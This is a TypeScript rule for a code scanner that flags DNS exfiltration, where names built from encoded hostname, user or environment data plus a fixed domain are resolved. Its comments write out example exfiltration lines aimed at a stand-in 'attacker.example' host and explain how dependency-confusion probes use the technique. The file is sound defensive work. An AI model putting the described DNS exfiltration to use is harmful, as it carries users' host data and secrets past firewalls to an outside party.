import type { AstNode, Rule } from '../../types.js';
import { DeferredWalk, HOLE, isNode, lastName, memberPath, mergeVisitors, someDescendant, stringShape, trackers, unwrap } from '../_ast/index.js';

/** DNS functions that send the queried name to the resolver (and on to the domain's name server). */
const DNS_CALL = /^dns(?:\.promises)?\.(?:resolve\w*|lookup\w*)$/;
const RESOLVER_METHOD = /^(?:resolve\w*|lookup)$/;

/** Calls whose result is host data or an encoding of data. */
const DATA_CALLS = /^(?:os\.(?:hostname|userInfo|homedir|networkInterfaces|platform|type|release)|btoa|Buffer\.from|encodeURIComponent|JSON\.stringify)$/;
const ENCODING_ARG = /^(?:hex|base64|base64url|base32)$/;
const ITERATORS = new Set(['forEach', 'map', 'flatMap', 'filter', 'some', 'every', 'find']);

/**
 * DNS exfiltration: a DNS query for a name built from data plus a fixed domain,
 * `dns.resolve(hex(secret) + '.x.attacker.example')`. The attacker's name server logs every
 * label, so each lookup carries a chunk of data out through firewalls that allow DNS.
 * Dependency-confusion probes encode the hostname and user this way. A lookup whose variable part
 * is not encoded host/env data (an SRV prefix, a DNSBL's reversed IP) is not reported.
 */
export const rule: Rule = {
  meta: {
    id: 'dns-exfiltration',
    severity: 'high',
    category: 'exfiltration',
    confidence: 'high',
    description: 'Resolves a DNS name built from encoded or host/environment data plus a fixed domain (data carried out in DNS labels)',
    needles: ['dns'],
  },
  create(ctx) {
    const t = trackers(ctx);
    /** Names whose value derives from host/env data or an encoding. */
    const derived = new Set<string>();
    const isData = (node: AstNode): boolean =>
      someDescendant(node, (n) => {
        if (n.type === 'Identifier') return derived.has(n.name);
        if (n.type === 'MemberExpression') return memberPath(n, t.bindings) === 'process.env' || (memberPath(n, t.bindings)?.startsWith('process.env.') ?? false);
        if (n.type !== 'CallExpression') return false;
        const callee = t.aliases.callee(n, t.bindings);
        if (callee !== undefined && DATA_CALLS.test(callee)) return true;
        // x.toString('hex'), n.toString(16)
        const arg = n.arguments[0];
        if (lastName(callee) === 'toString' && arg && isNode(arg) && arg.type === 'Literal') return ENCODING_ARG.test(String(arg.value)) || arg.value === 16 || arg.value === 36;
        return false;
      }, 500);
    const loadsDns = () => t.aliases.loaded.has('dns') || t.aliases.loaded.has('dns.promises');
    // Which names hold data matters only at a DNS lookup of a built name, which almost no file
    // has: the bookkeeping waits for the first one, then runs over the file up to it on a walk of
    // its own, as of each node's moment (history.ts), and live from there. Until then a file pays
    // for the lookup tests alone.
    const declarator = (node: AstNode) => {
      const d = node as AstNode & { type: 'VariableDeclarator' };
      if (d.init && d.id.type === 'Identifier' && isData(d.init as AstNode)) derived.add(d.id.name);
    };
    const assignment = (node: AstNode) => {
      const a = node as AstNode & { type: 'AssignmentExpression' };
      const left = unwrap(a.left as AstNode);
      if (left.type === 'Identifier' && isData(a.right as AstNode)) derived.add(left.name);
    };
    const forOf = (node: AstNode) => {
      const f = node as AstNode & { type: 'ForOfStatement' };
      const id = f.left.type === 'VariableDeclaration' ? f.left.declarations[0]?.id : f.left;
      if (id?.type === 'Identifier' && isData(f.right as AstNode)) derived.add(id.name);
    };
    // chunks.forEach((chunk) => …): the callback's element is data too
    const iteration = (node: AstNode) => {
      const c = node as AstNode & { type: 'CallExpression' };
      const fnCallee = unwrap(c.callee as AstNode);
      if (fnCallee.type === 'MemberExpression' && ITERATORS.has(lastName(t.aliases.callee(c, t.bindings)) ?? '') && isData(fnCallee.object as AstNode)) {
        const fn = c.arguments[0] && unwrap(c.arguments[0] as AstNode);
        const param = fn && (fn.type === 'ArrowFunctionExpression' || fn.type === 'FunctionExpression') ? fn.params[0] : undefined;
        if (param?.type === 'Identifier') derived.add(param.name);
      }
    };
    const clock = t.bindings.clock;
    const deferred = ctx.ast && clock === t.aliases.clock && clock.stepped ? new DeferredWalk(ctx.ast as AstNode, clock, { VariableDeclarator: declarator, AssignmentExpression: assignment, ForOfStatement: forOf, CallExpression: iteration }, ctx.file.path) : undefined;
    if (deferred) clock.startRecording();
    const live = () => deferred === undefined || deferred.live;
    return mergeVisitors(t.visitor, {
      VariableDeclarator: (node) => {
        if (live()) declarator(node);
      },
      AssignmentExpression: (node) => {
        if (live()) assignment(node);
      },
      ForOfStatement: (node) => {
        if (live()) forOf(node);
      },
      CallExpression: (node) => {
        const c = node as AstNode & { type: 'CallExpression' };
        const callee = t.aliases.callee(c, t.bindings);
        if (live()) iteration(node);
        const isDns = (callee !== undefined && DNS_CALL.test(callee)) || (loadsDns() && RESOLVER_METHOD.test(lastName(callee) ?? '') && callee?.includes('.'));
        const name = c.arguments[0];
        if (!isDns || !name || !isNode(name)) return;
        const shape = stringShape(name as AstNode, t.bindings);
        if (shape === undefined || !shape.includes(HOLE)) return;
        // data first, a fixed domain of two or more labels after it: `${chunk}.${id}.attacker.example`
        const suffix = shape.slice(shape.lastIndexOf(HOLE) + 1);
        if (!/^\.?(?:[a-z0-9-]+\.)+[a-z]{2,}\.?$/i.test(suffix) || suffix.replace(/^\./, '').split('.').length < 2) return;
        if (!live()) {
          deferred!.replay(node);
          iteration(node);
        }
        if (!isData(name as AstNode)) return;
        ctx.report({ node, message: `resolves a name built from encoded/host data under the fixed domain ${suffix.replace(/^\./, '')} (${callee}): data leaves in DNS labels` });
      },
    });
  },
};
